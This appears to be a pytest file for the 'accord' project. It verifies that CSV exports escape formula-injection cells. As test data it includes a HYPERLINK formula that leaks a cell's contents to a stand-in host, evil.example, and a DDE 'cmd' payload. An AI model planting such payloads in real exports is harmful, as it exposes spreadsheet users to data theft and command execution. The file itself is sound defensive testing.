"""Item 7 of issue 19: every CSV export neutralises cells a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from accord.accounts.models import AuditEntry
from accord.accounts.service import audit_csv
from accord.audiences.exports import Person, render
from accord.collect.mapped import rejected_csv
from accord.consent.export import CSV_COLUMNS, to_csv
from accord.core.csvfile import csv_text, safe_cell

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain", "plain"),
        ("-0.25", "-0.25"),
        ("+16505550123", "+16505550123"),
        ("1e-3", "1e-3"),
        (None, ""),
        (3, "3"),
    ],
)
def test_item_7_csv_safe_cell(value: object, expected: str) -> None:
    assert safe_cell(value) == expected


def test_item_7_csv_text_quotes_and_reads_back() -> None:
    text = csv_text(("a", "b"), [["=x", 'say "hi", then'], {"a": "@y"}])
    assert _cells(text) == [["a", "b"], ["'=x", 'say "hi", then'], ["'@y", ""]]


def test_item_7_csv_formula_injection_audit_export() -> None:
    entry = AuditEntry(
        id=1,
        at=datetime(2026, 1, 1, tzinfo=UTC),
        actor_kind="person",
        actor_id="per_1",
        actor_label=ATTACK,
        action="business.update",
        asset_kind=None,
        asset_id=None,
        before=None,
        after=None,
        ip="-1+1",
    )
    row = _cells(audit_csv([entry]))[1]
    assert row[4] == "'" + ATTACK
    assert row[10] == "'-1+1"


def test_item_7_csv_formula_injection_audience_exports() -> None:
    person = Person(
        profile_id="prof_1",
        user_ids=("@u1",),
        emails=("a@example.com",),
        traits={"first_name": ATTACK, "last_name": "+x", "zip": "=1", "country": "FR"},
    )
    rows = _cells(render("csv", [person], audience="a").body.decode())
    assert rows[1] == ["prof_1", "a@example.com", "'@u1", "", "'" + ATTACK, "'+x"]
    google = _cells(render("google", [person], audience="a").body.decode())
    assert google[1][-1] == "'=1"


def test_item_7_csv_formula_injection_consent_export() -> None:
    row = {c: "" for c in CSV_COLUMNS} | {"identifier_kind": "userId", "identifier": "=cmd()"}
    rows = _cells("".join(to_csv([row])))
    assert rows[1][1] == "'=cmd()"


def test_item_7_csv_formula_injection_import_rejected_rows() -> None:
    rows = _cells(rejected_csv([{"row": 2, "field": "=A1", "reason": "@bad"}]))
    assert rows[1] == ["2", "'=A1", "'@bad"]
